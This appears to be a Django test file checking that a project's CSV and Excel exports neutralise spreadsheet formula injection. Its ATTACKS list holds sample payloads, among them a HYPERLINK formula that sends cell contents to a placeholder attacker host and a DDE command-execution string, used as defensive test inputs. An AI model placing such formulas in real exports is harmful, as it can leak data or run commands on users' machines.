"""CSV injection (issue 15): every CSV export neutralises cells that a spreadsheet would run as a
formula, through the one helper in audit.csv_safe (OWASP: a single quote in front)."""

import csv
import io
import re
from pathlib import Path

from django.db import transaction
from django.urls import reverse

from audit.csv_safe import csv_safe_cell, csv_safe_row
from audit.services import audit_record
from reports.builders import Table
from reports.exports import report_xlsx, table_csv

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|x",
    "\t=1",
    "\r=1",
]
ROOT = Path(__file__).resolve().parents[2]


def test_formula_cells_get_a_quote_and_plain_values_do_not():
    for attack in ATTACKS:
        assert csv_safe_cell(attack) == "'" + attack
    for plain in ("-5", "+1.5", "-0.25e3", "batch B-001", "", "qa approved", "10 - 2"):
        assert csv_safe_cell(plain) == plain
    assert csv_safe_row([-5, 1.5, None, "=1"]) == [-5, 1.5, None, "'=1"]


def test_the_audit_trail_export_neutralises_a_hostile_reason(users, client_for):
    with transaction.atomic():
        audit_record(action="test.hostile", actor=users["admin"], reason=ATTACKS[0], object_type="x", object_id="1")
    response = client_for("auditor").get(reverse("audit:export_csv"))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    header = rows[0]
    reasons = [r[header.index("reason")] for r in rows[1:] if r[header.index("action")] == "test.hostile"]
    assert reasons == ["'" + ATTACKS[0]]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)


def test_report_tables_are_neutralised_in_csv_and_kept_as_text_in_excel():
    table = Table(key="t", title="T", columns=["name", "qty"], rows=[[ATTACKS[3], -5], ["=1+1", 2]])
    rows = list(csv.reader(io.StringIO(table_csv(table).lstrip("\ufeff"))))
    assert rows[1] == ["'" + ATTACKS[3], "-5"] and rows[2] == ["'=1+1", "2"]

    from openpyxl import load_workbook

    from reports.builders import ReportData

    data = ReportData(kind="t", title="T", filters=None, tables=[table])
    sheet = load_workbook(io.BytesIO(report_xlsx(data, []))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == "=1+1"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_no_csv_is_written_outside_the_helper():
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        if path.parts[len(ROOT.parts)] in {".venv", "tests", "bench", "scripts"} or path.name == "csv_safe.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
